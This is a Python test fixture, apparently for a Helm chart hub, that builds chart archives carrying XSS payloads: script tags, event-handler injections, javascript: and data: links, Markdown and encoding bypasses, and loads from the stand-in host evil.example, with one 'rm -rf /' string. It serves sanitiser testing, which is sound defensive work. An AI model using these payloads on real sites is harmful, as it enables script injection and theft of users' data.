"""Charts that try to run a script in the reader's browser, or to have it ask elsewhere.

What runs calls p() or alert(), or sets window.pwned; what asks, asks evil.example.
"""
from harness import chart

RUN = "window.pwned=1;alert(1)"
URL = "https://evil.example"

# Text that goes wherever a chart can say something.
PAYLOADS = (
    # HTML
    ("script", f"<script>{RUN}</script>"),
    ("script of upper case", f"<SCRIPT>{RUN}</SCRIPT>"),
    ("script from elsewhere", f'<script src="{URL}/x.js"></script>'),
    ("script of a module", f'<script type="module">import "{URL}/x.mjs"</script>'),
    ("script within a script", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    ("script with a slash", f"<script/x>{RUN}</script/x>"),
    ("script that is not closed", f"<script>{RUN}//"),
    ("picture", f'<img src=x onerror="{RUN}">'),
    ("picture without quotes", f"<img src=x onerror={RUN}>"),
    ("picture with slashes", f"<img/src=x/onerror={RUN}>"),
    ("picture from elsewhere", f'<img src="{URL}/p.png">'),
    ("picture set from elsewhere", f'<img srcset="{URL}/p.png 1x"><picture><source srcset="{URL}/q"></picture>'),
    ("picture without a scheme", '<img src="//evil.example/p.png">'),
    ("body", f'<body onload="{RUN}">'),
    ("svg", f'<svg onload="{RUN}"></svg>'),
    ("svg with a script", f"<svg><script>{RUN}</script></svg>"),
    ("svg that animates", f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>'),
    ("svg that uses", f'<svg><use href="{URL}/x.svg#a"></use></svg>'),
    ("svg with a link", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">go</text></a></svg>'),
    ("foreign object", f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>"),
    ("mathematics", f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">'),
    ("mathematics with a link", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'),
    ("frame", '<iframe src="javascript:alert(1)"></iframe>'),
    ("frame with a document", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"),
    ("frame from elsewhere", f'<iframe src="{URL}/"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embedded", '<embed src="javascript:alert(1)">'),
    ("details", f'<details open ontoggle="{RUN}"><summary>s</summary></details>'),
    ("input with focus", f'<input autofocus onfocus="{RUN}">'),
    ("focus by tabindex", f'<p tabindex=1 autofocus onfocus="{RUN}">x</p>'),
    ("form", f'<form action="{URL}/"><button formaction="javascript:alert(1)">x</button></form>'),
    ("video", f'<video src=x onerror="{RUN}" poster="{URL}/p"></video><audio src="{URL}/a"></audio>'),
    ("marquee", f'<marquee onstart="{RUN}">x</marquee>'),
    ("end of an animation", f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationstart="{RUN}">'),
    ("style", f'<style>*{{background:url({URL}/bg)}} @import "{URL}/x.css";</style>'),
    ("style of an element", f'<p style="background:url({URL}/bg);position:fixed;inset:0">over all</p>'),
    ("stylesheet", f'<link rel="stylesheet" href="{URL}/x.css"><link rel="prefetch" href="{URL}/p">'),
    ("refresh", f'<meta http-equiv="refresh" content="0;url={URL}/">'),
    ("refresh with a script", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", f'<base href="{URL}/">'),
    ("template", f"<template><script>{RUN}</script></template>"),
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'),
    ("comment that ends early", f"<!--><img src=x onerror={RUN}>-->"),
    ("cdata", f"<![CDATA[<img src=x onerror={RUN}>]]>"),
    ("instruction", f"<?xml-stylesheet href='{URL}/x.xsl'?><?php {RUN} ?>"),
    ("custom element", f'<x-y onclick="{RUN}" is="script">x</x-y>'),
    ("names of the page's own", '<form id="main" name="documentElement"><input name="attributes"></form>'),
    ("switches of the page's script", '<button data-copy="rm -rf /">x</button><p data-tabs data-fill data-filter=q>'),
    ("ping", f'<a href="#x" ping="{URL}/p">x</a>'),
    # out of where the text stands
    ("out of an attribute", f'"><img src=x onerror={RUN}>'),
    ("out of an attribute of one quote", f"'><img src=x onerror={RUN}>"),
    ("another attribute", f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="'),
    ("out of the title", f"</title><script>{RUN}</script>"),
    ("out of a textarea", f"</textarea><script>{RUN}</script>"),
    ("out of a script", f"</script><script>{RUN}</script>"),
    ("out of a string", f"\\\"-{RUN}-\\'//"),
    ("out of code", f"</code></pre><img src=x onerror={RUN}>"),
    ("out of the page", f"</main></body></html><img src=x onerror={RUN}>"),
    ("out of JSON", f'","x":"</script><!--<script>{RUN}'),
    # encodings
    ("references", "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;"),
    ("double references", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    ("full width", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"),
    ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("other direction", f"\u202e<img src=x onerror={RUN}>\u2066\u2069"),
    ("line separators", f"a\u2028<script>{RUN}</script>\u2029b"),
    # Markdown
    ("link", "[click](javascript:alert(1))"),
    ("link of both cases", "[click](JaVaScRiPt:alert(1))"),
    ("link by references", "[click](&#106;avascript&colon;alert&lpar;1&rpar;) [x](javascript&#x3A;alert`1`)"),
    ("link with a tab", "[click](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1))"),
    ("link with a control", "[click](&#1;javascript:alert(1)) [x](<\u00a0javascript:alert(1)>)"),
    ("link in angles", "[click](<javascript:alert(1)>) <javascript:alert(1)>"),
    ("link by name", "[click][x]\n\n[x]: javascript:alert(1) \"t\""),
    ("link of data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link of VBScript", "[click](vbscript:msgbox(1)) [x](livescript:x) [y](view-source:x) [z](blob:x)"),
    ("link without a scheme", "[click](//evil.example/) [x](\\\\evil.example) [y](/\\evil.example)"),
    ("title of a link", f"[click](https://a.example '\"onmouseover={RUN} x=\"')"),
    ("address of a link", f"[click](https://a.example/\"onmouseover={RUN}//)"),
    ("picture of Markdown", f"![p]({URL}/p.png) ![p](javascript:alert(1)) ![p](//evil.example/p)"),
    ("picture's text", f"![\"onerror=\"{RUN}](x.png)"),
    ("picture in a link", f"[![p]({URL}/p.png)](javascript:alert(1))"),
    ("picture of data", f"![p](data:image/svg+xml,<svg onload={RUN}>)"),
    ("picture by name", f"![p][q]\n\n[q]: {URL}/p.png"),
    ("language of code", f'```"><img src=x onerror={RUN}>\ncode\n```'),
    ("heading", f'# "><img src=x onerror={RUN}> <a id=main>x</a>'),
    ("alert", f"> [!NOTE]<img src=x onerror={RUN}>\n> <script>{RUN}</script>"),
    ("table", f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:alert(1)) |"),
    ("autolink", f"https://a.example/<script>{RUN}</script> www.a.example\"onload={RUN}"),
    ("mail", f'<a"onclick={RUN}@a.example> mailto:a@b.example?body=<script>{RUN}</script>'),
    ("folded", f"<details><summary>s</summary>\n\n<img src=x onerror={RUN}>\n\n</details>"),
    ("template of Helm", '{{ "<script>alert(1)</script>" }} {{- define "x" -}}<img src=x onerror=alert(1)>'),
    ("address of a script", "javascript:alert(1)//"),
    ("address of data", f"data:text/html,<script>{RUN}</script>"),
    ("address of a picture of data", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"),
    ("address of elsewhere", f"{URL}/icon.png"),
)


def one_line(text):
    return " ".join(text.replace("\u2028", " ").replace("\u2029", " ").split())


def listed(text):
    """As the value of a key in YAML, whatever is in it."""
    return "'" + one_line(text).replace("'", "''") + "'"


def metadata(text):
    line, quoted = one_line(text), listed(text)
    return {
        "description": line, "keywords": [line, "hostile"], "home": line, "sources": [line], "icon": line,
        "appVersion": line,
        "maintainers": [{"name": line, "email": line, "url": line}],
        "dependencies": [{"name": "common", "version": "1.x", "repository": line, "condition": line,
                          "tags": [line]}],
        "annotations": {
            "artifacthub.io/license": line, "artifacthub.io/category": line, "artifacthub.io/operator": line,
            "artifacthub.io/operatorCapabilities": line,
            "artifacthub.io/changes": f"- kind: added\n  description: {quoted}\n  links:\n"
                                      f"  - {{name: {quoted}, url: {quoted}}}\n",
            "artifacthub.io/links": f"- name: {quoted}\n  url: {quoted}\n- name: support\n  url: {quoted}\n",
            "artifacthub.io/images": f"- name: {quoted}\n  image: {quoted}\n",
            "artifacthub.io/maintainers": f"- name: {quoted}\n  email: {quoted}\n",
            "artifacthub.io/crds": f"- kind: {quoted}\n  version: {quoted}\n  name: {quoted}\n"
                                   f"  displayName: {quoted}\n  description: {quoted}\n",
            "artifacthub.io/recommendations": f"- url: {quoted}\n",
            "artifacthub.io/screenshots": f"- title: {quoted}\n  url: {quoted}\n",
            "artifacthub.io/signKey": f"fingerprint: {quoted}\nurl: {quoted}\n",
            "category": line, "licenses": line, line[:60]: line},
    }


def file_name(line):
    """What a name of a member may have of it."""
    return "".join(c for c in line if c not in "/:\\" and c.isprintable())[:60]


def files(text):
    line, quoted = one_line(text), listed(text)
    schema = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return {
        "README.md": f"{text}\n\nA paragraph.\n\n{line}\n".encode(),
        "CHANGELOG.md": f"# Changelog\n\n## 1.0.0\n\n- {line}\n\n{text}\n".encode(),
        "values.yaml": f"# -- {line}\nkey: {quoted}\n{quoted}: 1\nimage: {quoted}\nlist:\n  - {quoted}\n".encode(),
        "values.schema.json": f'{{"title": "{schema}", "type": "object", "properties": {{"key": {{"description": '
                              f'"{schema}", "pattern": "{schema}", "enum": ["{schema}"]}}}}}}'.encode(),
        "templates/NOTES.txt": text.encode(),
        "templates/role.yaml": f"apiVersion: {quoted}\nkind: {quoted}\nmetadata: {{name: {quoted}}}\n".encode(),
        "crds/crd.yaml": f"kind: CustomResourceDefinition\nspec: {{group: {quoted}, names: {{kind: {quoted}}}}}\n"
                         .encode(),
        f"templates/{file_name(line)}.yaml": text.encode(),
    }


def archives():
    """(name of the payload, text, name of the chart, two versions of it)"""
    for number, (name, text) in enumerate(PAYLOADS):
        of = f"hostile-{number:02}"
        yield name, text, of, [chart(of, version, files(text), **metadata(text)) for version in ("1.0.0", "1.1.0")]
